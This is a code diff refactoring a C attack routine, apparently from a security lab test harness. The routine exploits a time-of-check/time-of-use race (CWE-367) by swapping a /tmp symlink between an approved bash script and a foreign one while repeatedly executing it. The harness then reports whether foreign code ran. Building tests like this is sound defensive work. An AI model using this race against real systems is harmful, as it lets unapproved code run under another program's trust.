@@ -5,46 +5,29 @@
  * Source: CWE-367; the old race of setuid scripts, execve(2). Control: foreign code ran.
  */
 #define _GNU_SOURCE
-#include <signal.h>
-#include <stdio.h>
-#include <sys/prctl.h>
-#include <unistd.h>
-
 #include "attack.h"
+#include "race.h"
 #include "session.h"
-
-#define LINK "/tmp/lab-swapped-script"
 
 enum { TRIES = 40 };
 
-static _Noreturn void swap(const char *approved)
-{
-	prctl(PR_SET_PDEATHSIG, SIGKILL);
-	for (;;) {
-		unlink(LINK ".new");
-		if (symlink("/tmp/lab-swapped.bash", LINK ".new") || rename(LINK ".new", LINK) ||
-		    symlink(approved, LINK ".new") || rename(LINK ".new", LINK))
-			_exit(1);
-	}
-}
-
 void attack(void)
 {
-	const char *approved = lab_path("scripts/bash");
-	pid_t child;
+	const char *link = "/tmp/lab-swapped-script", *foreign = "/tmp/lab-swapped.bash";
+	const struct start by_line = { .path = link, .argv = { "script" } };
+	const struct start by_name = { .path = BASH, .argv = { "bash", link } };
+	bool done = false;
+	int error = 0;
+	pid_t turner;
 
-	drop_text(FOREIGN_SHELL, "/tmp/lab-swapped.bash");
-	unlink(LINK);
-	if (symlink(approved, LINK) || (child = fork()) < 0)
-		broken("a link");
-	if (child == 0)
-		swap(approved);
-	for (int i = 0; i < TRIES; i++)
-		if (runs(&(struct start){ .path = LINK, .argv = { "script" } }, FOREIGN_TEXT) ||
-		    runs(&(struct start){ .path = BASH, .argv = { "bash", LINK } }, FOREIGN_TEXT)) {
-			kill(child, SIGKILL);
-			effect();
-		}
-	kill(child, SIGKILL);
-	no_effect(errno);
+	drop_text(FOREIGN_SHELL, foreign);
+	turner = start_turning(link, lab_path("scripts/bash"), foreign);
+	for (int i = 0; i < TRIES && !done; i++) {
+		done = runs(&by_line, FOREIGN_TEXT) || runs(&by_name, FOREIGN_TEXT);
+		error = errno;
+	}
+	stop_changing(turner);
+	if (done)
+		effect();
+	no_effect(error);
 }
